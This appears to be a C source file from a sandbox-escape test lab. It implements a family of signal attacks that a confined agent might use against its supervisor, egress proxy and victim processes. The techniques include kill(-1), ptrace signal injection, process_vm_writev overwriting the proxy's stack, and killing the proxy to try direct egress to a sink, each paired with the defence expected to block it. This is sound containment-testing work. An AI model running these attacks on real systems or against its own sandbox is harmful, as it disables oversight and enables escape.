/* signal.c - B5, signals to the supervisor's side: the victims, the
 * supervisor, the proxy. Judged by receipt (the signal victim counts every
 * signal through signalfd; the sacrificial victim's stop or death, the
 * proxy's and the supervisor's deaths are seen by the lab), never by return
 * values: kill(0) and kill(-1) return 0 when any one target, even the caller,
 * was signalled. */
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <poll.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#include "attack.h"
#include "pod_procs.h"

/* No pause after a signal is sent: kill() returns once the signal is
 * pending, and the lab makes each witness catch up before it looks. The
 * victims answer a drain request only after reading their signalfd to
 * EAGAIN (a pending SIGKILL or SIGSTOP is acted on before that answer),
 * and the supervisor probes the proxy once the program has exited
 * (proxy_probe_fate): a proxy with a fatal signal pending dies instead of
 * answering. What remains ours to wait for is a signal the kernel
 * generates later than the call that causes it (SIGURG over TCP). */

static int kill_one(struct attack_log *log, pid_t pid, int sig, const char *who)
{
	int r = kill(pid, sig);
	int err = errno;

	attack_step(log, "kill", r, err, "%d (%s), SIG%s", (int)pid, who, sigabbrev_np(sig));
	return r == 0 ? CLAIM_ESCAPED : CLAIM_BLOCKED;
}

static int no_victim(const struct attack_env *env, struct attack_log *log)
{
	if (env->victim_pid > 0)
		return 0;
	attack_note(log, "PARITY_VICTIM_PID is not set: nothing to aim at");
	return -1;
}

static int s01_victim(const struct attack_env *env, struct attack_log *log)
{
	if (no_victim(env, log) < 0)
		return CLAIM_UNSURE;
	return kill_one(log, env->victim_pid, SIGUSR1, "signal victim");
}

static int sacrificial(const struct attack_env *env, struct attack_log *log, int sig)
{
	struct pod_view v;
	const struct pod_proc *p;

	if (pod_scan(log, &v) < 0)
		return CLAIM_UNSURE;
	p = pod_find_sacrificial(env, &v, log);
	if (!p)
		return CLAIM_UNSURE;
	return kill_one(log, p->pid, sig, "sacrificial victim");
}

static int s01_kill(const struct attack_env *env, struct attack_log *log)
{
	return sacrificial(env, log, SIGKILL);
}

static int s01_stop(const struct attack_env *env, struct attack_log *log)
{
	return sacrificial(env, log, SIGSTOP);
}

static int s02_pgrp(const struct attack_env *env, struct attack_log *log)
{
	pid_t pg = getpgrp(), sid = getsid(0);
	int r, err;

	attack_step(log, "getpgrp", pg, 0, "(0: the group's leader is outside our PID namespace)");
	err = errno;
	attack_step(log, "getsid", sid, err, "0");
	/* SIGWINCH: ignored by default, counted by the signal victim all the
	 * same. Without setsid the group reaches processes outside the pod's
	 * PID namespace (the lab itself); SIGUSR1 would kill them. */
	r = kill(0, SIGWINCH);
	err = errno;
	attack_step(log, "kill", r, err,
		    "0 (our process group), SIGWINCH; the return value says nothing about "
		    "who got it");
	return CLAIM_UNSURE;
}

static int s02_all(const struct attack_env *env, struct attack_log *log)
{
	int r = kill(-1, SIGUSR1);
	int err = errno;

	attack_step(log, "kill", r, err,
		    "-1 (every process we may signal but init and us), SIGUSR1; 0 if any "
		    "one got it");
	return CLAIM_UNSURE;
}

static int s03_tkill(const struct attack_env *env, struct attack_log *log)
{
	long r;
	int err;

	if (no_victim(env, log) < 0)
		return CLAIM_UNSURE;
	r = syscall(SYS_tkill, env->victim_pid, SIGUSR1);
	err = errno;
	attack_step(log, "tkill", r, err, "%d (the victim's main thread), SIGUSR1",
		    (int)env->victim_pid);
	return r == 0 ? CLAIM_ESCAPED : CLAIM_BLOCKED;
}

static int s03_tgkill(const struct attack_env *env, struct attack_log *log)
{
	long r;
	int err;

	if (no_victim(env, log) < 0)
		return CLAIM_UNSURE;
	r = syscall(SYS_tgkill, env->victim_pid, env->victim_pid, SIGUSR1);
	err = errno;
	attack_step(log, "tgkill", r, err, "tgid %d, tid %d, SIGUSR1", (int)env->victim_pid,
		    (int)env->victim_pid);
	return r == 0 ? CLAIM_ESCAPED : CLAIM_BLOCKED;
}

static void queue_info(siginfo_t *si)
{
	memset(si, 0, sizeof(*si));
	si->si_signo = SIGUSR1;
	si->si_code = SI_QUEUE; /* < 0: what a non-kernel sender may claim */
	si->si_pid = getpid();
	si->si_uid = getuid();
	si->si_value.sival_int = 0x5a5a;
}

static int s04_sigqueue(const struct attack_env *env, struct attack_log *log)
{
	siginfo_t si;
	long r;
	int err;

	if (no_victim(env, log) < 0)
		return CLAIM_UNSURE;
	queue_info(&si);
	r = syscall(SYS_rt_sigqueueinfo, env->victim_pid, SIGUSR1, &si);
	err = errno;
	attack_step(log, "rt_sigqueueinfo", r, err, "%d, SIGUSR1, si_code SI_QUEUE",
		    (int)env->victim_pid);
	return r == 0 ? CLAIM_ESCAPED : CLAIM_BLOCKED;
}

static int s04_tgsigqueue(const struct attack_env *env, struct attack_log *log)
{
	siginfo_t si;
	long r;
	int err;

	if (no_victim(env, log) < 0)
		return CLAIM_UNSURE;
	queue_info(&si);
	r = syscall(SYS_rt_tgsigqueueinfo, env->victim_pid, env->victim_pid, SIGUSR1, &si);
	err = errno;
	attack_step(log, "rt_tgsigqueueinfo", r, err, "tgid %d, tid %d, SIGUSR1, SI_QUEUE",
		    (int)env->victim_pid, (int)env->victim_pid);
	return r == 0 ? CLAIM_ESCAPED : CLAIM_BLOCKED;
}

static int pidfd_signal(struct attack_log *log, int pfd, const char *what)
{
	long r = syscall(SYS_pidfd_send_signal, pfd, SIGUSR1, NULL, 0);
	int err = errno;

	attack_step(log, "pidfd_send_signal", r, err, "%s, SIGUSR1", what);
	return r == 0 ? CLAIM_ESCAPED : CLAIM_BLOCKED;
}

static int s05_pidfd(const struct attack_env *env, struct attack_log *log)
{
	long pfd;
	int err, claim;

	if (no_victim(env, log) < 0)
		return CLAIM_UNSURE;
	pfd = syscall(SYS_pidfd_open, env->victim_pid, 0);
	err = errno;
	attack_step(log, "pidfd_open", pfd, err, "%d, 0", (int)env->victim_pid);
	if (pfd < 0) {
		/* The send is filtered on its own too: show that layer. */
		pidfd_signal(log, -1, "fd -1 (no pidfd: is the send filtered too?)");
		return CLAIM_BLOCKED;
	}
	claim = pidfd_signal(log, (int)pfd, "the victim's pidfd");
	close((int)pfd);
	return claim;
}

static int s05_procfd(const struct attack_env *env, struct attack_log *log)
{
	struct pod_view v;
	char path[64];
	int fd, err, claim;

	if (no_victim(env, log) < 0 || pod_scan(log, &v) < 0)
		return CLAIM_UNSURE;
	if (pod_path(&v, env->victim_pid, "", path, sizeof(path)) < 0) {
		attack_note(log, "the victim %d is not under /proc", (int)env->victim_pid);
		return CLAIM_UNSURE;
	}
	fd = open(path, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	err = errno;
	attack_step(log, "open", fd, err, "%s, O_DIRECTORY: a /proc/<pid> fd is a pidfd too", path);
	if (fd < 0)
		return CLAIM_BLOCKED;
	claim = pidfd_signal(log, fd, path);
	close(fd);
	return claim;
}

/* Make fd's owner the victim (F_SETOWN after enforcement: the sandbox's
 * domain is recorded with it). */
static int own_by_victim(const struct attack_env *env, struct attack_log *log, int fd, bool async)
{
	int r = fcntl(fd, F_SETOWN, env->victim_pid);
	int err = errno;

	attack_step(log, "fcntl", r, err, "fd %d, F_SETOWN, %d (the victim)", fd,
		    (int)env->victim_pid);
	if (r < 0 || !async)
		return r;
	r = fcntl(fd, F_SETFL, O_ASYNC | O_NONBLOCK);
	err = errno;
	attack_step(log, "fcntl", r, err, "fd %d, F_SETFL, O_ASYNC|O_NONBLOCK", fd);
	return r;
}

static int s06_sigio(const struct attack_env *env, struct attack_log *log)
{
	int sv[2], r, err;
	ssize_t n;

	if (no_victim(env, log) < 0)
		return CLAIM_UNSURE;
	r = socketpair(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0, sv);
	err = errno;
	attack_step(log, "socketpair", r, err, "AF_UNIX, SOCK_STREAM");
	if (r < 0)
		return CLAIM_UNSURE;
	if (own_by_victim(env, log, sv[1], true) == 0) {
		n = write(sv[0], "x", 1);
		err = errno;
		attack_step(log, "write", n, err, "1 byte to the peer: SIGIO to its owner");
	}
	close(sv[0]);
	close(sv[1]);
	return CLAIM_UNSURE;
}

static int s06_sigurg_unix(const struct attack_env *env, struct attack_log *log)
{
	int sv[2], r, err;
	ssize_t n;

	if (no_victim(env, log) < 0)
		return CLAIM_UNSURE;
	r = socketpair(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0, sv);
	err = errno;
	attack_step(log, "socketpair", r, err, "AF_UNIX, SOCK_STREAM");
	if (r < 0)
		return CLAIM_UNSURE;
	if (own_by_victim(env, log, sv[1], false) == 0) {
		n = send(sv[0], "!", 1, MSG_OOB | MSG_NOSIGNAL);
		err = errno;
		attack_step(log, "send", n, err,
			    "1 byte MSG_OOB (CONFIG_AF_UNIX_OOB): SIGURG to the peer's owner");
	}
	close(sv[0]);
	close(sv[1]);
	return CLAIM_UNSURE;
}

/* TCP over loopback inside the sandbox. Landlock's TCP rule is port-only:
 * a listener of our own on 127.0.0.2:<proxy port> is one we may connect to
 * (the proxy holds 127.0.0.1:<port>). */
static int s06_sigurg_tcp(const struct attack_env *env, struct attack_log *log)
{
	struct sockaddr_in a = {.sin_family = AF_INET,
				.sin_port = htons(env->proxy_port),
				.sin_addr.s_addr = htonl(0x7f000002)};
	int l = -1, c = -1, s = -1, r, err, one = 1;
	ssize_t n;

	if (no_victim(env, log) < 0)
		return CLAIM_UNSURE;
	l = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
	err = errno;
	attack_step(log, "socket", l, err, "AF_INET, SOCK_STREAM (listener)");
	if (l < 0)
		goto out;
	setsockopt(l, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));
	r = bind(l, (struct sockaddr *)&a, sizeof(a));
	err = errno;
	attack_step(log, "bind", r, err, "127.0.0.2:%u (the proxy's port: Landlock is port-only)",
		    env->proxy_port);
	if (r < 0)
		goto out;
	r = listen(l, 1);
	err = errno;
	attack_step(log, "listen", r, err, "1");
	if (r < 0)
		goto out;
	c = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
	err = errno;
	attack_step(log, "socket", c, err, "AF_INET, SOCK_STREAM (client)");
	if (c < 0)
		goto out;
	r = attack_connect_timeout(c, (struct sockaddr *)&a, sizeof(a), 1000);
	err = errno;
	attack_step(log, "connect", r, err, "127.0.0.2:%u", env->proxy_port);
	if (r < 0)
		goto out;
	s = accept4(l, NULL, NULL, SOCK_CLOEXEC);
	err = errno;
	attack_step(log, "accept4", s, err, "the loopback peer");
	if (s < 0 || own_by_victim(env, log, s, false) < 0)
		goto out;
	n = send(c, "!", 1, MSG_OOB | MSG_NOSIGNAL);
	err = errno;
	attack_step(log, "send", n, err, "1 byte MSG_OOB: urgent data, SIGURG to the peer's owner");
	if (n == 1) {
		/* The receiver's side runs in softirq, which a busy machine
		 * defers to ksoftirqd: the SIGURG is sent when the urgent
		 * pointer is seen, before the byte shows as POLLPRI. Closing
		 * first would drop the segment unprocessed. */
		struct pollfd p = {.fd = s, .events = POLLPRI};
		r = poll(&p, 1, 2000);
		err = errno;
		attack_step(log, "poll", r, err,
			    "the peer, POLLPRI (2 s bound): the urgent byte %s",
			    r > 0 ? "arrived" : "did not arrive");
	}
out:
	if (s >= 0)
		close(s);
	if (c >= 0)
		close(c);
	if (l >= 0)
		close(l);
	return CLAIM_UNSURE;
}

/* Wait (bounded) for a tracee's stop. */
static int wait_stop(struct attack_log *log, pid_t pid)
{
	int st = 0;
	pid_t w = 0;
	int err = 0;

	for (int i = 0; i < 200 && w == 0; i++) {
		w = waitpid(pid, &st, __WALL | WNOHANG);
		err = errno;
		if (w == 0) {
			struct timespec ts = {.tv_nsec = 10 * 1000 * 1000};
			nanosleep(&ts, NULL);
		}
	}
	attack_step(log, "wait4", w, err, "%d, __WALL (2 s bound): %s", (int)pid,
		    w > 0 && WIFSTOPPED(st) ? sigabbrev_np(WSTOPSIG(st)) : "no stop seen");
	return w > 0 && WIFSTOPPED(st) ? 0 : -1;
}

static int s07_ptrace(const struct attack_env *env, struct attack_log *log)
{
	long r;
	int err;

	if (no_victim(env, log) < 0)
		return CLAIM_UNSURE;
	r = ptrace(PTRACE_ATTACH, env->victim_pid, NULL, NULL);
	err = errno;
	attack_step(log, "ptrace", r, err, "PTRACE_ATTACH, %d (the victim)", (int)env->victim_pid);
	if (r < 0)
		return CLAIM_BLOCKED;
	wait_stop(log, env->victim_pid);
	/* The witnessed effect: resume it with a signal of our choosing, which
	 * the kernel queues as if the victim had received it. */
	r = ptrace(PTRACE_DETACH, env->victim_pid, NULL, (void *)(long)SIGUSR1);
	err = errno;
	attack_step(log, "ptrace", r, err, "PTRACE_DETACH, %d, data SIGUSR1 (injected)",
		    (int)env->victim_pid);
	return r == 0 ? CLAIM_ESCAPED : CLAIM_UNSURE;
}

/* Where the process's stack pointer is: /proc/<pid>/syscall ("nr args... sp
 * pc", ptrace attach access), and the mapping holding it from
 * /proc/<pid>/maps. Its active stack need not be [stack] (the lab's pod runs
 * on a clone() stack of its own). [*lo, *hi): from sp up, at most 64 KiB. */
static int stack_range(struct attack_log *log, const struct pod_view *v, pid_t pid,
		       unsigned long *lo, unsigned long *hi)
{
	char path[64], line[512];
	unsigned long sp = 0, a, b;
	FILE *f;
	int err, found = -1;

	pod_path(v, pid, "syscall", path, sizeof(path));
	f = fopen(path, "re");
	err = errno;
	attack_step(log, "open", f ? 3 : -1, err, "%s (needs ptrace attach access)", path);
	if (!f)
		return -1;
	if (fgets(line, sizeof(line), f)) {
		char *tok[16];
		int nt = 0;
		for (char *t = strtok(line, " \n"); t && nt < 16; t = strtok(NULL, " \n"))
			tok[nt++] = t;
		if (nt >= 3)
			sp = strtoul(tok[nt - 2], NULL, 16);
	}
	fclose(f);
	attack_note(log, "the proxy's stack pointer: 0x%lx", sp);
	pod_path(v, pid, "maps", path, sizeof(path));
	f = fopen(path, "re");
	err = errno;
	attack_step(log, "open", f ? 3 : -1, err, "%s", path);
	if (!f || !sp) {
		if (f)
			fclose(f);
		return -1;
	}
	while (found < 0 && fgets(line, sizeof(line), f))
		if (sscanf(line, "%lx-%lx", &a, &b) == 2 && sp >= a && sp < b) {
			*lo = sp;
			*hi = b - sp > 65536 ? sp + 65536 : b;
			found = 0;
		}
	fclose(f);
	return found;
}

static int s07_vm_writev(const struct attack_env *env, struct attack_log *log)
{
	struct pod_view v;
	const struct pod_proc *proxy;
	unsigned long lo = 0x10000, hi = 0x10000 + 4096;
	struct iovec local, remote;
	void *zeros;
	ssize_t n;
	int err;

	if (pod_scan(log, &v) < 0 || !(proxy = pod_find_proxy(env, &v, log)))
		return CLAIM_UNSURE;
	if (stack_range(log, &v, proxy->pid, &lo, &hi) < 0)
		attack_note(log,
			    "the proxy's stack is unknown: write one page at 0x%lx to see "
			    "which layer refuses the call itself",
			    lo);
	zeros = calloc(1, hi - lo);
	if (!zeros)
		return CLAIM_UNSURE;
	local = (struct iovec){.iov_base = zeros, .iov_len = hi - lo};
	remote = (struct iovec){.iov_base = (void *)lo, .iov_len = hi - lo};
	n = process_vm_writev(proxy->pid, &local, 1, &remote, 1, 0);
	err = errno;
	attack_step(log, "process_vm_writev", n, err,
		    "%d (the proxy), zeros over its live stack 0x%lx-0x%lx", (int)proxy->pid, lo,
		    hi);
	free(zeros);
	if (n <= 0)
		return CLAIM_BLOCKED;
	/* The witnessed effect: wake the proxy; it returns into a zeroed
	 * stack and dies. */
	{
		struct sockaddr_storage ss;
		socklen_t len = attack_sockaddr(env->proxy_host, env->proxy_port, &ss);
		int fd = socket(ss.ss_family, SOCK_STREAM | SOCK_CLOEXEC, 0);
		int r;
		err = errno;
		attack_step(log, "socket", fd, err, "SOCK_STREAM, to wake the proxy");
		if (fd >= 0) {
			r = attack_connect_timeout(fd, (struct sockaddr *)&ss, len, 1000);
			err = errno;
			attack_step(log, "connect", r, err, "%s:%u (the proxy)", env->proxy_host,
				    env->proxy_port);
			close(fd);
		}
	}
	return CLAIM_ESCAPED;
}

static int s12_kill_proxy(const struct attack_env *env, struct attack_log *log)
{
	struct pod_view v;
	const struct pod_proc *proxy;
	struct sockaddr_storage ss;
	socklen_t len;
	int fd, r, err, claim;

	if (pod_scan(log, &v) < 0 || !(proxy = pod_find_proxy(env, &v, log)))
		return CLAIM_UNSURE;
	claim = kill_one(log, proxy->pid, SIGKILL, "the proxy");
	/* Fail open? The proxy's address first, then straight to the sink. */
	len = attack_sockaddr(env->proxy_host, env->proxy_port, &ss);
	fd = socket(ss.ss_family, SOCK_STREAM | SOCK_CLOEXEC, 0);
	err = errno;
	attack_step(log, "socket", fd, err, "SOCK_STREAM");
	if (fd >= 0) {
		r = attack_connect_timeout(fd, (struct sockaddr *)&ss, len, 1000);
		err = errno;
		attack_step(log, "connect", r, err, "%s:%u (is the proxy still there?)",
			    env->proxy_host, env->proxy_port);
		close(fd);
	}
	/* The proxy's death is an escape in itself. */
	return pod_marker_tcp(env, log, env->sink_v4, 443, "S12") == CLAIM_ESCAPED ? CLAIM_ESCAPED
										   : claim;
}

static int s12_stop_proxy(const struct attack_env *env, struct attack_log *log)
{
	struct pod_view v;
	const struct pod_proc *proxy;

	if (pod_scan(log, &v) < 0 || !(proxy = pod_find_proxy(env, &v, log)))
		return CLAIM_UNSURE;
	return kill_one(log, proxy->pid, SIGSTOP, "the proxy");
}

#define NS_UID "different uid: the agent may not signal the root victims (EPERM)"
#define LL_SIG "Landlock scope signal (ABI >= 6): EPERM"
#define LL_SIG_NOTIFY LL_SIG " (notify does not see signals)"
#define STRICT_SIG                                                                                 \
	"notify: signals only within the agent's own process tree (any ABI); the scope "           \
	"behind it (ABI >= 6)"
#define STRICT_FOWN "seccomp: F_SETOWN/F_SETOWN_EX refused; the scope behind it (ABI >= 6)"
#define SECCOMP_BASE "seccomp base filter: EPERM"

/* The table keeps the layout of attacks/tcp.c. */
/* clang-format off */
const struct attack attacks_signal[] = {
	{
		.id = "S01",
		.family = FAM_SIGNAL,
		.title = "kill() the signal victim with SIGUSR1",
		.tries = "Signal a process on the supervisor's side that runs under the agent's "
			 "own uid (platform): only the signal scope stands in the way.",
		.syscalls = "kill($PARITY_VICTIM_PID, SIGUSR1)",
		.refs = "attack-catalog.md B5 S01; scoped_signal_test.c; LTP landlock10",
		.expect = {NS_UID, LL_SIG, LL_SIG_NOTIFY, STRICT_SIG},
		.run = s01_victim,
	},
	{
		.id = "S01.kill",
		.family = FAM_SIGNAL,
		.title = "SIGKILL the sacrificial victim",
		.tries = "Kill a helper on the supervisor's side. Its pid is not given: found by "
			 "scanning /proc for a child of the supervisor that blocks every signal.",
		.syscalls = "scan /proc/*/status; kill(sacrificial, SIGKILL)",
		.refs = "attack-catalog.md B5 S01",
		.expect = {NS_UID, LL_SIG, LL_SIG_NOTIFY, STRICT_SIG},
		.run = s01_kill,
	},
	{
		.id = "S01.stop",
		.family = FAM_SIGNAL,
		.title = "SIGSTOP the sacrificial victim",
		.tries = "Freeze a helper on the supervisor's side (a stopped proxy or supervisor "
			 "is a denial of service, or a window).",
		.syscalls = "scan /proc/*/status; kill(sacrificial, SIGSTOP)",
		.refs = "attack-catalog.md B5 S01",
		.expect = {NS_UID, LL_SIG, LL_SIG_NOTIFY, STRICT_SIG},
		.run = s01_stop,
	},
	{
		.id = "S02",
		.family = FAM_SIGNAL,
		.title = "kill(0): signal the whole process group",
		.tries =
			"Signal every process of our group; judged by receipt, never by the return "
			"value (0 as soon as one target, ourselves included, got it). SIGWINCH: "
			"without setsid the group reaches the lab outside the pod, which SIGUSR1 "
			"would kill.",
		.syscalls = "getpgrp; getsid; kill(0, SIGWINCH)",
		.refs = "attack-catalog.md §0.8, B5 S02, B7",
		.expect = {"setsid: the group holds only the agent (uid check behind it)",
			   "setsid: the group holds only the agent (the scope behind it)",
			   "setsid (the scope behind it)", "setsid (the scope behind it)"},
		.run = s02_pgrp,
	},
	{
		.id = "S02.all",
		.family = FAM_SIGNAL,
		.title = "kill(-1): signal every process we may",
		.tries = "Broadcast SIGUSR1 to every process in the PID namespace but init and "
			 "us: the supervisor, the proxy and the victims under the same uid. "
			 "kill(-1) swallows EPERM: it returns 0 when every target refused "
			 "(measured under platform), so only receipt counts.",
		.syscalls = "kill(-1, SIGUSR1)",
		.refs = "attack-catalog.md §0.8, B5 S02 (kill_something_info)",
		.expect = {NS_UID, LL_SIG " for each target (kill returns 0 all the same)",
			   LL_SIG_NOTIFY, STRICT_SIG},
		.run = s02_all,
	},
	{
		.id = "S03",
		.family = FAM_SIGNAL,
		.title = "tkill() the signal victim",
		.tries = "The thread-directed entry point (do_tkill) rather than kill().",
		.syscalls = "tkill($PARITY_VICTIM_PID, SIGUSR1)",
		.refs = "attack-catalog.md B5 S03",
		.expect = {NS_UID, LL_SIG " (task_kill hook)", LL_SIG_NOTIFY, STRICT_SIG},
		.run = s03_tkill,
	},
	{
		.id = "S03.tgkill",
		.family = FAM_SIGNAL,
		.title = "tgkill() the signal victim",
		.tries = "tgkill(tgid, tid): the same hook through another entry point.",
		.syscalls = "tgkill($PARITY_VICTIM_PID, $PARITY_VICTIM_PID, SIGUSR1)",
		.refs = "attack-catalog.md B5 S03",
		.expect = {NS_UID, LL_SIG " (task_kill hook)", LL_SIG_NOTIFY, STRICT_SIG},
		.run = s03_tgkill,
	},
	{
		.id = "S04",
		.family = FAM_SIGNAL,
		.title = "rt_sigqueueinfo() to the signal victim",
		.tries = "Queue a signal with a siginfo of our own (si_code SI_QUEUE).",
		.syscalls = "rt_sigqueueinfo($PARITY_VICTIM_PID, SIGUSR1, {SI_QUEUE})",
		.refs = "attack-catalog.md B5 S04",
		.expect = {NS_UID, LL_SIG, LL_SIG_NOTIFY, STRICT_SIG},
		.run = s04_sigqueue,
	},
	{
		.id = "S04.tg",
		.family = FAM_SIGNAL,
		.title = "rt_tgsigqueueinfo() to the signal victim",
		.tries = "The thread-directed queueing entry point.",
		.syscalls = "rt_tgsigqueueinfo($PARITY_VICTIM_PID, $PARITY_VICTIM_PID, SIGUSR1, "
			    "{SI_QUEUE})",
		.refs = "attack-catalog.md B5 S04",
		.expect = {NS_UID, LL_SIG, LL_SIG_NOTIFY, STRICT_SIG},
		.run = s04_tgsigqueue,
	},
	{
		.id = "S05",
		.family = FAM_SIGNAL,
		.title = "pidfd_open() + pidfd_send_signal() to the signal victim",
		.tries = "Signal through a pidfd (the race-free API).",
		.syscalls = "pidfd_open($PARITY_VICTIM_PID); pidfd_send_signal(SIGUSR1)",
		.refs = "attack-catalog.md B5 S05; openshell-reference.md §3.1",
		.expect = {SECCOMP_BASE " (pidfd_open, pidfd_send_signal)",
			   SECCOMP_BASE " (the scope behind it)", SECCOMP_BASE, SECCOMP_BASE},
		/* Linux 5.3: without it the control cannot escape either (an
		 * INCONCLUSIVE with no reason, where N/A names it). */
		.needs = {.probe = {"seccomp.pidfd_open"}},
		.run = s05_pidfd,
	},
	{
		.id = "S05.procfd",
		.family = FAM_SIGNAL,
		.title = "pidfd_send_signal() through a /proc/<pid> directory fd",
		.tries = "A /proc/<pid> directory fd is accepted as a pidfd: no pidfd_open "
			 "needed, so a filter on pidfd_open alone is not enough.",
		.syscalls = "open(/proc/<victim>, O_DIRECTORY); pidfd_send_signal(SIGUSR1)",
		.refs = "attack-catalog.md B5 S05; pidfd_send_signal(2)",
		.expect = {SECCOMP_BASE " (pidfd_send_signal)",
			   SECCOMP_BASE " (pidfd_send_signal; the scope behind it)", SECCOMP_BASE,
			   SECCOMP_BASE},
		/* pidfd_send_signal is 5.1, and a /proc/<pid> fd as its pidfd
		 * came with it; the probe has pidfd_open (5.3), a little late
		 * but present on every kernel the lab boots. */
		.needs = {.probe = {"seccomp.pidfd_open"}},
		.run = s05_procfd,
	},
	{
		.id = "S06",
		.family = FAM_SIGNAL,
		.title = "SIGIO to the victim: F_SETOWN + O_ASYNC, then I/O",
		.tries = "Make the victim the owner of our socket and let the kernel send it "
			 "SIGIO when data arrives: the sender is the kernel, on our behalf. "
			 "Silent: judged by receipt only.",
		.syscalls =
			"socketpair(AF_UNIX); fcntl(F_SETOWN, victim); fcntl(F_SETFL, O_ASYNC); "
			"write",
		.refs = "attack-catalog.md B5 S06; scoped_signal_test.c fown",
		.expect = {"sigio_perm: different uid, nothing sent",
			   LL_SIG " (file_send_sigiotask, domain recorded at F_SETOWN)",
			   LL_SIG_NOTIFY, STRICT_FOWN},
		.run = s06_sigio,
	},
	{
		.id = "S06.sigurg",
		.family = FAM_SIGNAL,
		.title = "SIGURG to the victim: F_SETOWN + TCP urgent data over loopback",
		.tries = "A TCP pair of our own on 127.0.0.2:<proxy port> (Landlock's TCP rule is "
			 "port-only, so the connect is allowed), the accepted socket owned by the "
			 "victim, then send(MSG_OOB).",
		.syscalls =
			"bind/listen 127.0.0.2:3128; connect; accept4; fcntl(F_SETOWN, victim); "
			"send(MSG_OOB)",
		.refs = "attack-catalog.md B5 S06; scoped_signal_test.c fown.sigurg_socket",
		.expect = {"sigio_perm: different uid, nothing sent",
			   LL_SIG " (file_send_sigiotask)", LL_SIG_NOTIFY, STRICT_FOWN},
		.run = s06_sigurg_tcp,
	},
	{
		.id = "S06.sigurg_unix",
		.family = FAM_SIGNAL,
		.title = "SIGURG to the victim: F_SETOWN + AF_UNIX out-of-band data",
		.tries = "The same through a unix socketpair and MSG_OOB (CONFIG_AF_UNIX_OOB): no "
			 "network at all.",
		.syscalls = "socketpair(AF_UNIX); fcntl(F_SETOWN, victim); send(MSG_OOB)",
		.needs = {.probe = {"protocols.unix_oob"}},
		.refs = "attack-catalog.md B5 S06; scoped_signal_test.c fown",
		.expect = {"sigio_perm: different uid, nothing sent",
			   LL_SIG " (file_send_sigiotask)", LL_SIG_NOTIFY, STRICT_FOWN},
		.run = s06_sigurg_unix,
	},
	{
		.id = "S07",
		.family = FAM_SIGNAL,
		.title = "ptrace attach to the victim, detach with an injected signal",
		.tries = "PTRACE_ATTACH to the signal victim; the witnessed effect is a SIGUSR1 "
			 "injected at PTRACE_DETACH (a tracer can make the victim do anything).",
		.syscalls = "ptrace(PTRACE_ATTACH, victim); wait4(__WALL); ptrace(PTRACE_DETACH, "
			    "victim, SIGUSR1)",
		.needs = {.probe = {"entry_points.ptrace_attach"}},
		.refs = "attack-catalog.md B5 S07; landlock.rst 'Ptrace restrictions'",
		.expect = {SECCOMP_BASE " (ptrace; uid and dumpable behind it)",
			   SECCOMP_BASE " (Landlock ptrace restriction behind it)", SECCOMP_BASE,
			   SECCOMP_BASE},
		.run = s07_ptrace,
	},
	{
		.id = "S07.vm",
		.family = FAM_SIGNAL,
		.title = "process_vm_writev() into the proxy: zero its stack, then wake it",
		.tries = "Write another process's memory without ptrace attach. The witnessed "
			 "effect: zeros over the proxy's stack, then a connection to wake it; it "
			 "returns into the zeroed stack and dies.",
		.syscalls = "scan /proc; open(/proc/<proxy>/maps); process_vm_writev(proxy, "
			    "[stack]); connect(proxy)",
		.needs = {.probe = {"entry_points.ptrace_attach"}},
		.refs = "attack-catalog.md B5 S07",
		.expect = {SECCOMP_BASE " (process_vm_writev; maps unreadable: uid)",
			   SECCOMP_BASE " (maps unreadable: Landlock ptrace restriction)",
			   SECCOMP_BASE, SECCOMP_BASE},
		.run = s07_vm_writev,
	},
	{
		.id = "S12",
		.family = FAM_SIGNAL,
		.title = "Kill the proxy, then try direct egress (fail open?)",
		.tries = "SIGKILL the proxy (a child of the supervisor under the same uid on "
			 "platform), then connect to its address and straight to the sink: a "
			 "sandbox that fails open when its proxy dies leaks. The proxy's death is "
			 "itself an escape for the lab.",
		.syscalls =
			"scan /proc; kill(proxy, SIGKILL); connect(proxy); connect(sink:443); send",
		.refs = "attack-catalog.md B5 S12; cplt PR #117 (fails closed)",
		.expect = {NS_UID " (nftables behind it)",
			   LL_SIG " (Landlock connect_tcp behind it)", LL_SIG_NOTIFY, STRICT_SIG},
		.run = s12_kill_proxy,
	},
	{
		.id = "S12.stop",
		.family = FAM_SIGNAL,
		.title = "Stop the proxy (SIGSTOP): nothing is served, nothing dies",
		.tries = "SIGSTOP the proxy: it stays alive, so a supervisor that watches only for "
			 "its death sees nothing, while every later CONNECT hangs. The lab probes "
			 "the proxy after the program exits; no answer from a stopped process is "
			 "the escape.",
		.syscalls = "scan /proc; kill(proxy, SIGSTOP)",
		.refs = "attack-catalog.md B5 S01, S12",
		.expect = {NS_UID, LL_SIG, LL_SIG_NOTIFY, STRICT_SIG},
		.run = s12_stop_proxy,
	},
	{0},
};
/* clang-format on */
